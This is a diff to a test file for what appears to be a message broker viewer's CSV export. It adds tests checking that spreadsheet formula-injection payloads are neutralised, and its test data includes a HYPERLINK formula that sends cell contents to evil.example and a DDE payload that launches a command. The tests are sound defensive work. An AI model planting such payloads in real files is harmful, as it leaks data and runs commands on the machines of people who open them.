@@ -93,6 +93,25 @@ describe('payload helpers', () => {
 
 	test('CSV quotes payloads', () => {
 		const csv = messagesCsv('a/b', [{ seq: 1, ts: 0, text: '{"x":"y"}', retained: true }]);
-		expect(csv).toBe('topic,seq,received_ms,received_iso,retained,payload\r\n"a/b",1,0,1970-01-01T00:00:00.000Z,1,"{""x"":""y""}"\r\n');
+		expect(csv).toBe('topic,seq,received_ms,received_iso,retained,payload\r\na/b,1,0,1970-01-01T00:00:00.000Z,1,"{""x"":""y""}"\r\n');
+	});
+
+	// Any publisher on the broker chooses the payload: opened in a spreadsheet, a cell that starts like a
+	// formula would run (quoting does not stop that). The export neutralises it as every other export does.
+	test.each([
+		['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
+		['+cmd|\' /C calc\'!A0', `'+cmd|' /C calc'!A0`],
+		['-2+3', "'-2+3"],
+		['@SUM(1+1)', "'@SUM(1+1)"],
+		['  =1+1', "'  =1+1"],
+		['\t=1+1', "'\t=1+1"]
+	])('CSV neutralises a payload that starts like a formula: %s', (payload, cell) => {
+		const csv = messagesCsv('a/b', [{ seq: 1, ts: 0, text: payload, retained: false }]);
+		expect(csv.split('\r\n')[1]).toBe(`a/b,1,0,1970-01-01T00:00:00.000Z,0,${cell}`);
+	});
+
+	test('CSV neutralises a topic that starts like a formula', () => {
+		const csv = messagesCsv('=cmd/x', [{ seq: 1, ts: 0, text: '1', retained: false }]);
+		expect(csv.split('\r\n')[1]).toBe(`'=cmd/x,1,0,1970-01-01T00:00:00.000Z,0,1`);
 	});
 });
